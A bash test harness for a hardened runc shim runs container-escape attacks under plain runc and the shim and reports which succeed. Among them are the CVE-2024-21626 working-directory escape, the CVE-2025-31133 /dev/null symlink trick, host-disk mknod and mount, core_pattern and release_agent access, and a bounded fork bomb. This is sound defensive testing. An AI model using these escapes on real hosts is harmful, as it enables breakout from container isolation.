#!/bin/bash
# The attack suite: each attack of test/attacks/attack.c (plus a few docker
# flags) runs in a container started through a real private dockerd, once
# under plain runc and once under hardened-runc, each with the most
# permissive flags a user can pass that the policy does not refuse
# outright.
#
#   bash test/attacks/run.sh OUT-DIR
#
# writes OUT-DIR/results.tsv (one line per attack, read by
# test/integration/attacks.sh) and OUT-DIR/report.md (the table `make
# attack-report` commits as test/attacks/report.md).  Exit 77 when a
# prerequisite is missing (a failure with HARDENED_MUST_WORK=1).
#
# Safety (this runs on shared machines, and the attacks succeed under plain
# runc): nothing is written to /proc/sys, /proc/sysrq-trigger, a
# release_agent or the host disk (they are opened for writing and closed),
# the host disk is mounted read-only and unmounted at once, the fork bomb
# stops at 3000 sleeping processes and the memory hog at 3 GiB.
. "$(dirname "$0")/../integration/lib.sh"

need_runc_suite
need_dockerd_suite
need_static_cc
[ $# = 1 ] || { echo "usage: $0 OUT-DIR" >&2; exit 2; }
OUT=$1
mkdir -p "$OUT"

work_dir attacks
at_exit dockerd_stop
START=$(date +%s)

cc -static -O2 -Wall -Wextra -Werror -o "$W/attack" "$TOP/test/attacks/attack.c" || exit 1
test_policy "$W/policy.json" "$W/audit.log"

# --privileged under plain runc: docker asks for every capability the
# kernel knows, and runc cannot grant one the machine's bounding set lacks
# (CAP_SYS_RESOURCE on the CI VM): "unable to apply caps".  runc-fit is
# plain runc after removing only those capabilities from config.json.
jq -n "[$HOSTCAPS]" > "$W/hostcaps.json"
cat > "$W/runc-fit" <<EOF
#!/bin/sh
# plain runc; on create/run, capabilities this machine's bounding set lacks
# are removed from config.json first
prev= bundle= sub=
for a in "\$@"; do
  case "\$prev" in --bundle|-b) bundle=\$a ;; esac
  case "\$a" in --bundle=*) bundle=\${a#--bundle=} ;; create|run) [ -n "\$sub" ] || sub=\$a ;; esac
  prev=\$a
done
if [ -n "\$sub" ] && [ -n "\$bundle" ] && [ -f "\$bundle/config.json" ]; then
  jq --slurpfile h "$W/hostcaps.json" '.process.capabilities |= with_entries(.value |= map(select(IN(\$h[0][]))))' \
    "\$bundle/config.json" > "\$bundle/config.json.fit" && mv "\$bundle/config.json.fit" "\$bundle/config.json"
fi
exec runc "\$@"
EOF
chmod 755 "$W/runc-fit"

RUNTIMES=$(shim_runtime hardened "$W/policy.json" | jq --arg fit "$W/runc-fit" '. + {"runc-fit": {path: $fit}}')
dockerd_start "$W/d" "$RUNTIMES" || { echo "dockerd did not start" >&2; exit 1; }

# the image: busybox, the attack program and a setuid-root copy of it
IMG="$W/img"
busybox_tree "$IMG"
cp "$W/attack" "$IMG/bin/attack"
cp "$W/attack" "$IMG/bin/attack-suid"
# an image may ship device nodes: the host's console, c 5:1
mknod -m 600 "$IMG/console" c 5 1
mknod -m 600 "$IMG/kmsg" c 1 11
# an image may ship links: /mydev -> /dev (the dev-link attack)
ln -s /dev "$IMG/mydev"
chown 0:0 "$IMG/bin/attack-suid" && chmod 4755 "$IMG/bin/attack-suid"
tar -C "$IMG" -c . | $DOCKER import -c 'ENV PATH=/bin' - hr-attack >/dev/null || { echo "docker import failed" >&2; exit 1; }

# --- the flags ------------------------------------------------------------------
SECOPTS=(--security-opt seccomp=unconfined --security-opt apparmor=unconfined --security-opt systempaths=unconfined)
# every capability this machine has and docker 20.10 knows (--cap-add ALL
# fails with plain runc where the bounding set lacks one)
CAPADD=$(echo "$HOSTCAPS" | tr -d '"' | tr , '\n' | grep -v -x -e CAP_PERFMON -e CAP_BPF -e CAP_CHECKPOINT_RESTORE \
  | sed 's/^CAP_/--cap-add /' | paste -sd' ' -)
# shellcheck disable=SC2206
RUNC_FLAGS=(--runtime=runc $CAPADD "${SECOPTS[@]}")
HARD_FLAGS=(--runtime=hardened --cap-add ALL "${SECOPTS[@]}")

# the host disk the containers' bind mounts come from (docker's data root)
HOSTDEV=$(findmnt -n -o MAJ:MIN -T "$W/d" | tr -d ' ')
case "$HOSTDEV" in 0:*|"") HOSTDEV=$(findmnt -n -o MAJ:MIN -T / | tr -d ' ') ;; esac
# can the host's own root open it?  (read 512 bytes, nothing else)
mknod "$W/hostdisk" b "${HOSTDEV%:*}" "${HOSTDEV#*:}"
if head -c 512 "$W/hostdisk" > /dev/null 2> "$W/hostdisk.err"; then
  HOST_DISK=""
else
  HOST_DISK="this machine refuses to open its disk even to the host's root ($(sed 's/^head: //' "$W/hostdisk.err" | head -n 1 | sed "s|$W/hostdisk|b $HOSTDEV|"))"
fi
rm -f "$W/hostdisk"
BASELINE_DENIED=" $(jq -r '.syscalls[] | select(.action == "SCMP_ACT_ERRNO") | .names[]' "$TOP/profiles/seccomp/baseline.json" | tr '\n' ' ') "

# --- running one attack -------------------------------------------------------------
# run_attack RUNTIME ID [DOCKER-ARGS...] -- COMMAND... : runs it, then
# parse_attack
run_attack() {
  local rt=$1 id=$2 out rc
  shift 2
  local args=()
  while [ "$1" != -- ]; do args+=("$1"); shift; done
  shift
  rm -f "$W/cid"
  out=$($DOCKER run --rm --cidfile "$W/cid" "${args[@]}" hr-attack "$@" 2>&1)
  rc=$?
  CID=$(cat "$W/cid" 2>/dev/null)
  printf '%s\n' "$out" > "$W/out.$rt.$id"
  parse_attack "$out" "$rc"
}

# parse_attack OUTPUT EXIT-CODE : sets STATUS (succeeded|stopped|error),
# KIND (result: the attack ran and says what happened; refused: the shim
# refused the container; runtime: runc refused it; error) and CELL (the
# report's text)
parse_attack() {
  local out=$1 rc=$2 line ctx sc err text note seccomp causes msg
  line=$(printf '%s\n' "$out" | grep '^RESULT ' | tail -n 1)
  ctx=$(printf '%s\n' "$out" | grep '^CONTEXT ' | tail -n 1)
  if [ -n "$line" ]; then
    KIND=result
    IFS='|' read -r STATUS sc err text note <<< "${line#RESULT }"
    seccomp=$(printf '%s\n' "$ctx" | sed -n 's/.*seccomp=\([-0-9]*\).*/\1/p')
    if [ "$STATUS" = succeeded ]; then
      CELL="succeeded: $text"
    else
      causes=()
      case "$BASELINE_DENIED" in
        *" $sc "*) [ -n "$sc" ] && [ "$seccomp" = 2 ] && causes+=("seccomp: the baseline denies $sc") ;;
      esac
      [ -n "$note" ] && causes+=("$note")
      [ "$err" = EROFS ] && causes+=("read-only mount")
      CELL="$STATUS: $text${err:+: $err}"
      if [ ${#causes[@]} -gt 0 ]; then
        CELL="$CELL ($(printf '%s; ' "${causes[@]}" | sed 's/; $//'))"
      fi
    fi
  elif [ "$rc" -ne 0 ] && msg=$(printf '%s\n' "$out" | grep -o 'hardened-runc: .*' | head -n 1) && [ -n "$msg" ]; then
    KIND=refused STATUS=stopped
    msg=${msg#hardened-runc: }
    CELL="stopped: refused by the shim: ${msg%: unknown*}"
  elif [ "$rc" -ne 0 ] && msg=$(printf '%s\n' "$out" | grep -o 'runc create failed: .*' | head -n 1) && [ -n "$msg" ]; then
    KIND=runtime STATUS=stopped
    msg=${msg#runc create failed: }
    CELL="stopped: runc refused to start it: ${msg%%: unknown*}"
  else
    KIND=error STATUS=error
    CELL="error: $(printf '%s\n' "$out" | grep -v '^CONTEXT ' | head -n 2 | tr '\n' ' ' | cut -c1-200)"
  fi
  CELL=$(printf '%s' "$CELL" | tr '|' '/')
}

# the shim's change to the container, from its audit log line
shim_put_back() { # shim_put_back PATH : "maskedPaths" / "readonlyPaths" if the shim added PATH there
  [ -n "$CID" ] || return 1
  jq -r --arg c "$CID" --arg p "$1" 'select(.container == $c and .subcommand == "create") | .changes[]?
    | select((.control == "linux.maskedPaths" or .control == "linux.readonlyPaths") and ((.after // []) | index($p)))
    | .control | sub("^linux\\."; "")' "$W/audit.log" | head -n 1
}

RESULTS="$OUT/results.tsv"
: > "$RESULTS"
# row ID LABEL EXPECT RUNC-STATUS RUNC-KIND RUNC-CELL HARD-STATUS HARD-KIND HARD-CELL
# EXPECT: what plain runc can do on this machine: "succeeds", "cannot: WHY"
# or "either: WHY"
row() { printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$@" >> "$RESULTS"; }

# attack ID LABEL EXPECT [DOCKER-ARGS...] -- COMMAND... : both runtimes
attack() {
  local id=$1 label=$2 expect=$3 rs rk rc
  shift 3
  run_attack runc "$id" "${RUNC_FLAGS[@]}" "$@"
  rs=$STATUS rk=$KIND rc=$CELL
  [ "$rs" != succeeded ] && [ -n "${RUNC_NOTE:-}" ] && rc="$rc; $RUNC_NOTE"
  run_attack hardened "$id" "${HARD_FLAGS[@]}" "$@"
  row "$id" "$label" "$expect" "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
  echo "$id: runc $rs, hardened-runc $STATUS" >&2
}

# --- the attacks ------------------------------------------------------------------
# --privileged: refused by the shim; under runc (runc-fit, see above) the
# container reports what it got, then runs the host-disk attack
run_attack runc privileged --runtime=runc --privileged -- true
BARE_PRIV=$CELL
run_attack runc privileged --runtime=runc-fit --privileged -- attack privileged
rs=$STATUS rk=$KIND
got=$(sed -n 's/^PRIVILEGED //p' "$W/out.runc.privileged")
if [ -n "$got" ]; then
  rs=succeeded
  rc="succeeded: ran privileged (runc-fit, see below): $got; the host-disk attack inside: ${CELL}"
else
  rc="$CELL"
fi
[ -n "$HOST_DISK" ] && [ "$STATUS" != succeeded ] && rc="$rc; $HOST_DISK"
run_attack hardened privileged --runtime=hardened --privileged -- attack privileged
row privileged "\`--privileged\` (then the host-disk attack inside)" succeeds "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
echo "privileged: runc $rs, hardened-runc $STATUS" >&2

attack mount-tmpfs "mount(2) of a tmpfs" succeeds -- attack mount-tmpfs
if [ -n "$HOST_DISK" ]; then EXPECT="cannot: $HOST_DISK"; else EXPECT=succeeds; fi
attack host-disk "host disk: mknod of the host's root block device ($HOSTDEV), open, read-only mount" \
  "cannot: docker's devices cgroup lets a container create block device nodes, not open them${HOST_DISK:+; and $HOST_DISK}" \
  -- attack host-disk
RUNC_NOTE=$HOST_DISK
attack host-disk-rule "host disk, with \`--device-cgroup-rule 'b $HOSTDEV r'\`" "$EXPECT" \
  --device-cgroup-rule "b $HOSTDEV r" -- attack host-disk
attack host-disk-rule-a "host disk, with \`--device-cgroup-rule 'a *:* m'\` (cgroup v1 allows every device for any \`a\` rule)" \
  "$EXPECT" --device-cgroup-rule 'a *:* m' -- attack host-disk
RUNC_NOTE=
attack kmsg-rule-a "the host's kernel log: a c 1:11 node shipped in the image, with \`--device-cgroup-rule 'a *:* m'\`" \
  succeeds --device-cgroup-rule 'a *:* m' -- attack kmsg /kmsg
# docker's default device rules allow c 5:1 to every container
attack console "the host's console: a c 5:1 node shipped in the image, opened for writing" succeeds \
  -- attack console /console
# --cgroup-parent into another container's cgroup: runs inside it, on its limits
VICTIM=$($DOCKER run -d --runtime=runc hr-attack sleep 300)
# shellcheck disable=SC2016
CGCHECK='c=$(grep -m1 ":pids:" /proc/self/cgroup | cut -d: -f3)
  case "$c" in /docker/'"$VICTIM"'/*) echo "RESULT succeeded|||runs in the cgroup of another container, on its limits: $c|" ;;
  *) echo "RESULT stopped|||its own cgroup: $c|" ;; esac'
attack cgroup-parent "\`--cgroup-parent /docker/<another container>\`" succeeds \
  --cgroup-parent "/docker/$VICTIM" -- sh -c "$CGCHECK"
$DOCKER rm -f "$VICTIM" >/dev/null 2>&1
# --oom-score-adj -1000: the host's OOM killer never picks the container
# (runc needs CAP_SYS_RESOURCE to lower the score)
case ",$HOSTCAPS," in
  *'"CAP_SYS_RESOURCE"'*) EXPECT=succeeds ;;
  *) EXPECT="cannot: runc cannot lower oom_score_adj without CAP_SYS_RESOURCE, which this machine's bounding set lacks" ;;
esac
# shellcheck disable=SC2016
attack oom-score-adj "\`--oom-score-adj -1000\`: the host's OOM killer spares the container" "$EXPECT" \
  --oom-score-adj -1000 -- sh -c 'v=$(cat /proc/self/oom_score_adj)
  if [ "$v" -lt 0 ]; then echo "RESULT succeeded|||oom_score_adj $v: the kernel kills host processes first|"
  else echo "RESULT stopped|||oom_score_adj $v|the shim raised it to 0"; fi'
attack userns-mount "unshare(CLONE_NEWUSER+CLONE_NEWNS), then mount and fsopen/fsconfig (CVE-2022-0185 path)" succeeds \
  -- attack userns-mount
attack cgroup-release-agent "cgroup v1 mount, release_agent opened for writing (CVE-2022-0492 path)" succeeds \
  -- attack cgroup-release-agent
attack shocker "open_by_handle_at with a forged handle (\"shocker\")" succeeds -- attack shocker
attack keyctl "keyctl / add_key" succeeds -- attack keyctl
attack bpf "bpf(2): map create, program load" succeeds -- attack bpf
attack userfaultfd "userfaultfd (kernel-mode faults)" succeeds -- attack userfaultfd
if [ "$(cat /proc/sys/kernel/io_uring_disabled 2>/dev/null || echo 0)" = 2 ]; then
  EXPECT="cannot: kernel.io_uring_disabled=2 on this machine"
else
  EXPECT=succeeds
fi
attack io-uring "io_uring_setup" "$EXPECT" -- attack io-uring
attack ptrace "ptrace: PTRACE_ATTACH to a sibling process" succeeds \
  -- sh -c 'sleep 30 & s=$!; sleep 0.2; attack ptrace $s; kill $s'
attack raw-socket "raw sockets: AF_PACKET, AF_INET SOCK_RAW" succeeds -- attack raw-socket
attack mknod-block "mknod of a block device (b $HOSTDEV)" succeeds -- attack mknod-block
attack write-rootfs "write to the root file system" succeeds -- attack write-rootfs
attack proc-sys "/proc/sys/kernel/core_pattern opened for writing" succeeds -- attack proc-sys

# /proc/sysrq-trigger and /proc/kcore exist only with CONFIG_MAGIC_SYSRQ and
# CONFIG_PROC_KCORE
for spec in "sysrq|/proc/sysrq-trigger|/proc/sysrq-trigger opened for writing|CONFIG_MAGIC_SYSRQ" \
            "kcore|/proc/kcore|/proc/kcore read|CONFIG_PROC_KCORE"; do
  IFS='|' read -r id path label config <<< "$spec"
  if [ -e "$path" ]; then EXPECT=succeeds; else EXPECT="cannot: this kernel has no $path ($config is not set)"; fi
  run_attack runc "$id" "${RUNC_FLAGS[@]}" -- attack "$id"
  rs=$STATUS rk=$KIND rc=$CELL
  run_attack hardened "$id" "${HARD_FLAGS[@]}" -- attack "$id"
  where=$(shim_put_back "$path")
  [ -n "$where" ] && CELL="$CELL; the shim put $path back in $where (audit log)"
  if [ ! -e "$path" ]; then
    rc="$rc: this kernel has no $path"
  fi
  row "$id" "$label" "$EXPECT" "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
  echo "$id: runc $rs, hardened-runc $STATUS" >&2
done

attack setuid "setuid-root copy run as uid 1000 (no_new_privs)" succeeds --user 1000 -- attack-suid

# --- mounts judged by what they are: what docker can produce ----------------------
# (volumes are mounted only while a container uses them; removed below)
$DOCKER volume create hr-etc -o type=none -o o=bind -o device=/etc >/dev/null
$DOCKER volume create hr-proc -o type=proc -o device=proc >/dev/null
openw() { # openw PATH WHAT : a command that opens PATH for writing (and writes nothing)
  printf 'if (: >> %s) 2>/dev/null; then echo "RESULT succeeded|||%s opened for writing|"; else echo "RESULT stopped|||%s not writable|"; fi' "$1" "$2" "$2"
}
attack volume-etc "a local volume of the host's /etc (\`docker volume create -o type=none -o o=bind -o device=/etc\`)" \
  succeeds -v hr-etc:/x -- sh -c "$(openw /x/hostname "the host's /etc/hostname")"
attack volume-proc "a volume of type proc (\`docker volume create -o type=proc\`): the host's /proc/sys" succeeds \
  --mount type=volume,source=hr-proc,target=/x -- sh -c "$(openw /x/sys/kernel/core_pattern "the host's core_pattern")"
attack engine-socket "the engine's socket at no standard path (\`-v EXEC-ROOT/docker.sock:/docker.sock\`)" succeeds \
  -v "$DOCKERD_EXEC/docker.sock:/docker.sock" -- \
  sh -c 'if test -S /docker.sock; then echo "RESULT succeeded|||the engine socket is reachable|"; else echo "RESULT stopped|||no socket|"; fi'
if [ -e /usr/bin/docker-init ]; then EXPECT=succeeds; else EXPECT="cannot: no /usr/bin/docker-init"; fi
attack docker-init-rw "Docker's init bound writable elsewhere (\`-v /usr/bin/docker-init:/x\`)" "$EXPECT" \
  -v /usr/bin/docker-init:/x -- sh -c "$(openw /x "the host's docker-init")"
attack tmpfs-exec "a program run from \`--tmpfs /scratch:exec\`" succeeds --tmpfs /scratch:exec -- \
  sh -c 'cp /bin/busybox /scratch/true && if /scratch/true 2>/dev/null; then echo "RESULT succeeded|||ran a program from the tmpfs|"; else echo "RESULT stopped|execve|EACCES|ran a program from the tmpfs|noexec"; fi'
$DOCKER volume rm -f hr-etc hr-proc >/dev/null 2>&1

# The container's /dev from a volume (CVE-2025-31133): runc takes /dev/null
# from the container's /dev, opens it as the container's stdout and stderr
# when it set up /dev itself and these are pipes, and binds it over every
# masked path (these two attacks run without systempaths=unconfined).
# - dev-link: a volume at the image's /mydev -> /dev, its "null" a link to
#   /proc/sys/kernel/hostname (the container's own UTS namespace: harmless
#   here; kernel.core_pattern would be the host's): the container writes
#   the read-only /proc/sys through its own stdout.
# - dev-volume: a volume at /dev, its "null" a link to /proc/timer_list:
#   the masking binds /proc/timer_list (every host process's timers) over
#   itself and the other masked paths, so it is readable again.
# Each report goes into the volume (stdout may be the link).
$DOCKER volume create hr-devnull >/dev/null
DEVVOL=$($DOCKER volume inspect -f '{{.Mountpoint}}' hr-devnull)
DEV_WRITE='echo pwned; if [ "$(hostname)" = pwned ]; then r="RESULT succeeded|||wrote /proc/sys/kernel/hostname: runc opened the volume'"'"'s /dev/null, a link there, as stdout|"; else r="RESULT stopped|||/proc/sys/kernel/hostname unchanged|"; fi; echo "$r" > "$1/result"'
DEV_UNMASK='if [ -n "$(head -c 64 /proc/timer_list 2>/dev/null)" ]; then r="RESULT succeeded|||read /proc/timer_list: the masking took /dev/null from the volume, a link to it|"; else r="RESULT stopped|||/proc/timer_list masked|"; fi; echo "$r" > "$1/result"'
dev_attack() { # dev_attack RUNTIME ID TARGET LINK SCRIPT FLAGS... : STATUS KIND CELL
  local rt=$1 id=$2 target=$3 link=$4 script=$5 out rc
  shift 5
  rm -rf "${DEVVOL:?}"/* && ln -s "$link" "$DEVVOL/null"
  out=$($DOCKER run --rm "$@" -v "hr-devnull:$target" hr-attack sh -c "$script" sh "$target" 2>&1)
  rc=$?
  [ -s "$DEVVOL/result" ] && out="$out
$(cat "$DEVVOL/result")"
  printf '%s\n' "$out" > "$W/out.$rt.$id"
  parse_attack "$out" "$rc"
}
for v in "dev-link|/mydev|/proc/sys/kernel/hostname|DEV_WRITE|a volume at /mydev, which the image links to /dev, its null a link to /proc/sys (\`-v VOLUME:/mydev\`, CVE-2025-31133)" \
         "dev-volume|/dev|/proc/timer_list|DEV_UNMASK|a volume at /dev, its null a link to /proc/timer_list (\`-v VOLUME:/dev\`): the masked paths unmasked"; do
  IFS='|' read -r id target link script label <<< "$v"
  dev_attack runc "$id" "$target" "$link" "${!script}" "${RUNC_FLAGS[@]/systempaths=unconfined/apparmor=unconfined}"
  rs=$STATUS rk=$KIND rc=$CELL
  dev_attack hardened "$id" "$target" "$link" "${!script}" "${HARD_FLAGS[@]/systempaths=unconfined/apparmor=unconfined}"
  row "$id" "$label" succeeds "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
  echo "$id: runc $rs, hardened-runc $STATUS" >&2
done
$DOCKER volume rm -f hr-devnull >/dev/null 2>&1

# fork bomb: the processes are held 3 s while the host starts processes
fork_bomb() { # fork_bomb FLAGS... : STATUS KIND CELL, and HOSTOK
  local host=no pid rc
  rm -f "$W/fork.out"
  $DOCKER run --rm "$@" hr-attack attack fork-bomb 3 > "$W/fork.out" 2>&1 &
  pid=$!
  for _ in $(seq 1 300); do grep -q '^HOLDING' "$W/fork.out" 2>/dev/null && break; sleep 0.1; done
  if grep -q '^HOLDING' "$W/fork.out" && sh -c 'for i in 1 2 3 4 5 6 7 8 9 10; do /bin/true || exit 1; done'; then
    host=yes
  fi
  wait "$pid"
  rc=$?
  parse_attack "$(cat "$W/fork.out")" "$rc"
  if [ "$host" = yes ]; then CELL="$CELL; the host started processes meanwhile"; HOSTOK=yes
  else CELL="$CELL; the host could NOT start processes meanwhile"; HOSTOK=no; fi
}
fork_bomb "${RUNC_FLAGS[@]}"
rs=$STATUS rk=$KIND rc=$CELL rh=$HOSTOK
fork_bomb "${HARD_FLAGS[@]}"
row fork-bomb "fork bomb (bounded at 3000 sleeping processes)" succeeds "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
printf 'fork-bomb-host\t%s\t%s\n' "$rh" "$HOSTOK" > "$OUT/host.tsv"
echo "fork-bomb: runc $rs, hardened-runc $STATUS" >&2

attack memory-hog "memory exhaustion (bounded at 3 GiB)" succeeds -- attack memory-hog

# CVE-2024-21626: the working directory is a leaked fd (the fd number
# depends on the runc build: try several)
MARK="$W/host-marker" MARKV="hr-attack-marker-$$-$RANDOM"
echo "$MARKV" > "$MARK"
RUNC_DEB=$(runc --version | sed -n 's/^commit: //p')
if zcat /usr/share/doc/runc/changelog.Debian.gz 2>/dev/null | grep -q CVE-2024-21626; then
  EXPECT="either: runc $RUNC_DEB (its Debian changelog lists the CVE-2024-21626 fix)"
else
  EXPECT="either: runc $(runc --version | head -n 1 | awk '{print $3}') may or may not be vulnerable"
fi
cwd_attack() { # cwd_attack RUNTIME FLAGS... : STATUS KIND CELL
  local rt=$1 fd cs="" ck="" cc=""
  shift
  for fd in 3 4 5 6 7 8 9; do
    run_attack "$rt" cwd-proc-fd "$@" -w "/proc/self/fd/$fd" -- attack cwd-escape "$MARK" "$MARKV"
    if [ "$STATUS" = succeeded ]; then
      CELL="$CELL (-w /proc/self/fd/$fd)"
      return
    fi
    # none worked: report fd 7, the one of the CVE's advisory
    if [ "$fd" = 7 ]; then cs=$STATUS ck=$KIND cc="$CELL (fds 3 to 9 tried, none got out; the message for fd 7)"; fi
  done
  STATUS=$cs KIND=$ck CELL=$cc
}
cwd_attack runc "${RUNC_FLAGS[@]}"
rs=$STATUS rk=$KIND rc=$CELL
cwd_attack hardened "${HARD_FLAGS[@]}"
row cwd-proc-fd "\`docker run -w /proc/self/fd/N\` (CVE-2024-21626)" "$EXPECT" "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
echo "cwd-proc-fd: runc $rs, hardened-runc $STATUS" >&2

END=$(date +%s)

# --- the report ----------------------------------------------------------------
{
  echo "# Attack suite: plain runc vs hardened-runc"
  echo
  echo "Generated by \`make attack-report\` (test/attacks/run.sh, attacks in test/attacks/attack.c) on $(date -u +%Y-%m-%d)."
  echo "Each attack ran in a container started through a private dockerd, once per runtime."
  echo
  echo "## Machine"
  echo
  echo "- $(. /etc/os-release && echo "$PRETTY_NAME"), kernel $(uname -r) ($(uname -m)), $(nproc) CPUs, $(awk '/MemTotal/ {printf "%.0f GiB", $2 / 1048576}' /proc/meminfo) RAM, swap $(awk '/SwapTotal/ {printf "%.0f GiB", $2 / 1048576}' /proc/meminfo)"
  echo "- $(runc --version | head -n 1) (Debian $RUNC_DEB), dockerd $(/usr/sbin/dockerd --version | awk '{print $3}' | tr -d ,), containerd $(containerd --version 2>/dev/null | awk '{print $3}')"
  echo "- cgroups: v$($DOCKER info --format '{{.CgroupVersion}}' 2>/dev/null) as docker sees them ($(awk '$3 == "cgroup" {n++} END {print n + 0}' /proc/self/mounts) v1 hierarchies mounted), driver $($DOCKER info --format '{{.CgroupDriver}}' 2>/dev/null)"
  echo "- LSMs: AppArmor $( [ "$(cat /sys/module/apparmor/parameters/enabled 2>/dev/null)" = Y ] && echo enabled || echo "not enabled"), SELinux $( [ -e /sys/fs/selinux/enforce ] && echo enabled || echo "not enabled") (so \`apparmor=unconfined\` changes nothing here)"
  echo "- capability bounding set of the host: every capability but $(for c in $(echo "$ALLCAPS" | tr -d '"' | tr , ' '); do case ",$HOSTCAPS," in *"\"$c\""*) ;; *) echo "$c" ;; esac; done | paste -sd' ' -)"
  echo "- kernel: unprivileged_bpf_disabled=$(cat /proc/sys/kernel/unprivileged_bpf_disabled 2>/dev/null), io_uring_disabled=$(cat /proc/sys/kernel/io_uring_disabled 2>/dev/null || echo n/a), vm.unprivileged_userfaultfd=$(cat /proc/sys/vm/unprivileged_userfaultfd 2>/dev/null), /proc/kcore $( [ -e /proc/kcore ] && echo present || echo absent), /proc/sysrq-trigger $( [ -e /proc/sysrq-trigger ] && echo present || echo absent)"
  echo "- suite run time: $((END - START)) s"
  echo
  echo "## Flags"
  echo
  echo "- **runc**: \`docker run --runtime=runc ${CAPADD% } ${SECOPTS[*]}\`: one \`--cap-add\` per capability of the host's bounding set that docker 20.10 knows (\`--cap-add ALL\` fails with plain runc here: the bounding set lacks CAP_SYS_RESOURCE)"
  echo "- **hardened-runc**: \`docker run --runtime=hardened --cap-add ALL ${SECOPTS[*]}\`, no limits; shipped default policy (profile baseline)"
  echo "- \`systempaths=unconfined\` (no masked or read-only /proc paths) is on both sides: the shim does not refuse it, it puts the paths back"
  echo "- rows with their own flags say so; a row the policy refuses outright (\`--privileged\`, a device rule, a cwd under /proc/*/fd) shows the shim's sentence"
  echo
  echo "## Results"
  echo
  echo "| attack | runc | hardened-runc |"
  echo "|---|---|---|"
  while IFS=$'\t' read -r _ label _ _ _ rc _ _ hc; do
    printf '| %s | %s | %s |\n' "$label" "$rc" "$hc" | sed 's/\([^ ]\)|\([^ ]\)/\1\\|\2/g' 
  done < "$RESULTS"
  echo
  echo "## Reading it"
  echo
  echo "- \"succeeded\" for the files that hand the host over (core_pattern, sysrq-trigger, release_agent) means the attack opened them for writing; the suite never writes to them. The host disk is only read and mounted read-only."
  echo "- runc-fit (the \`--privileged\` row only): plain runc, after removing from config.json the capabilities this machine's bounding set lacks; plain \`docker run --runtime=runc --privileged\` fails here: ${BARE_PRIV#*: }."
  echo "- The fork bomb and the memory hog stop themselves at 3000 processes and 3 GiB: \"succeeded\" means no limit stopped them first."
  n=$(awk -F'\t' '$3 ~ /^cannot/' "$RESULTS" | wc -l)
  if [ "$n" -gt 0 ]; then
    echo "- Attacks that cannot succeed even under plain runc on this machine (reported, not asserted):"
    awk -F'\t' '$3 ~ /^cannot/ { sub(/^cannot: /, "", $3); printf "  - %s: %s\n", $2, $3 }' "$RESULTS"
  fi
  awk -F'\t' '$3 ~ /^either/ { sub(/^either: /, "", $3); printf "- %s: %s; what happened is reported, not asserted.\n", $2, $3 }' "$RESULTS"
  echo "- \`test/integration/attacks.sh\` runs this suite and asserts that every attack is stopped under hardened-runc and that every attack expected to work under plain runc here did."
} > "$OUT/report.md"
echo "attacks: $(wc -l < "$RESULTS") attacks in $((END - START)) s; $OUT/report.md" >&2
